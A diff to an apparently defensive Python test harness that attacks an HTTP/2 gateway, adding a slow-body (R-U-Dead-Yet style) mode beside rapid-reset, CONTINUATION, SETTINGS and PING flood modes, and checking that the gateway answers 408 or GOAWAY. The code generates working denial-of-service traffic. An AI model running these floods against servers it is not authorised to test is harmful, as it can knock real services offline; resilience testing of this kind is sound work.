@@ -11,6 +11,8 @@ MODE is one of:
   ping          endless PING frames
   ping-idle     no request, one PING every 100 ms (for 10 s at most): the
                 connection is idle all the same and must get GOAWAY
+  slow-body     a POST whose body comes one byte every 100 ms (for 10 s at
+                most): R-U-Dead-Yet over HTTP/2; the gateway must answer 408
 
 Each round opens a fresh h2c (prior knowledge) connection and attacks it
 until the gateway ends it or the frame budget below is spent. A reader
@@ -29,9 +31,10 @@ import threading
 import time
 
 import h2  # noqa: F401  (the package this attacker is built on; see run.sh)
-from hpack import Encoder
+from hpack import Decoder, Encoder
 from hyperframe.frame import (
     ContinuationFrame,
+    DataFrame,
     HeadersFrame,
     PingFrame,
     RstStreamFrame,
@@ -40,7 +43,16 @@ from hyperframe.frame import (
 
 PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
 # Frames (or stream pairs) sent per round at most, and per write.
-BUDGET = {"rapid-reset": 5000, "continuation": 4000, "settings": 50000, "ping": 50000, "ping-idle": 100}
+BUDGET = {
+    "rapid-reset": 5000,
+    "continuation": 4000,
+    "settings": 50000,
+    "ping": 50000,
+    "ping-idle": 100,
+    "slow-body": 100,
+}
+# Modes that send one frame every 100 ms rather than as fast as they can.
+PACED = ("ping-idle", "slow-body")
 BATCH = 100
 # How long to wait for the gateway's answer once everything is sent.
 DRAIN_S = 10.0
@@ -55,6 +67,8 @@ class Reader(threading.Thread):
         self.goaway = None  # (error code, debug data)
         self.frames = {}
         self.ended = None  # "eof" | "reset"
+        self.statuses = []  # :status of each response HEADERS
+        self.hpack = Decoder()
         self.done = threading.Event()
 
     def run(self):
@@ -73,6 +87,10 @@ class Reader(threading.Thread):
                     kind, payload = buf[3], buf[9 : 9 + n]
                     buf = buf[9 + n :]
                     self.frames[kind] = self.frames.get(kind, 0) + 1
+                    if kind == 1:  # HEADERS (the gateway sends no padding)
+                        headers = dict(self.hpack.decode(payload))
+                        if ":status" in headers:
+                            self.statuses.append(headers[":status"])
                     if kind == 7 and self.goaway is None:  # GOAWAY
                         code = int.from_bytes(payload[4:8], "big")
                         self.goaway = (code, payload[8:].decode("latin-1"))
@@ -131,6 +149,24 @@ def frames_for(mode, enc):
             s = SettingsFrame(0)
             s.settings = {SettingsFrame.INITIAL_WINDOW_SIZE: 65535}
             yield s.serialize()
+    elif mode == "slow-body":
+        h = HeadersFrame(
+            1,
+            enc.encode(
+                [
+                    (":method", "POST"),
+                    (":scheme", "http"),
+                    (":path", "/v1/chat/completions"),
+                    (":authority", "attacker"),
+                    ("content-type", "application/json"),
+                    ("content-length", "100000"),
+                ]
+            ),
+        )
+        h.flags.add("END_HEADERS")
+        yield h.serialize()
+        while True:
+            yield DataFrame(1, b" ").serialize()
     elif mode in ("ping", "ping-idle"):
         i = 0
         while True:
@@ -150,14 +186,19 @@ def attack(addr, mode):
     sent = 0
     send_error = None
     started = time.monotonic()
+
+    def answered():
+        # A slow body is over once it is answered.
+        return mode == "slow-body" and bool(reader.statuses)
+
     try:
         settings = SettingsFrame(0)
         sock.sendall(PREFACE + settings.serialize())
         gen = frames_for(mode, enc)
         budget = BUDGET[mode]
-        pace = mode == "ping-idle"
+        pace = mode in PACED
         step = 1 if pace else BATCH
-        while sent < budget and not reader.done.is_set():
+        while sent < budget and not reader.done.is_set() and not answered():
             batch = b"".join(next(gen) for _ in range(min(step, budget - sent)))
             sock.sendall(batch)
             sent += min(step, budget - sent)
@@ -167,8 +208,11 @@ def attack(addr, mode):
         send_error = type(e).__name__
     except socket.timeout:
         send_error = "send timeout (the gateway stopped reading)"
-    # Wait for the gateway to end the connection; then stop either way.
-    reader.done.wait(DRAIN_S)
+    # Wait for the gateway to end the connection (or answer the slow body);
+    # then stop either way.
+    deadline = time.monotonic() + DRAIN_S
+    while not reader.done.is_set() and not answered() and time.monotonic() < deadline:
+        reader.done.wait(0.05)
     still_open = not reader.done.is_set()
     try:
         sock.shutdown(socket.SHUT_RDWR)
@@ -184,6 +228,7 @@ def attack(addr, mode):
         "goaway_debug": reader.goaway[1] if reader.goaway else None,
         "ended": "still-open" if still_open else reader.ended,
         "frames_received": {str(k): v for k, v in sorted(reader.frames.items())},
+        "statuses": reader.statuses,
         "seconds": round(time.monotonic() - started, 3),
     }
 
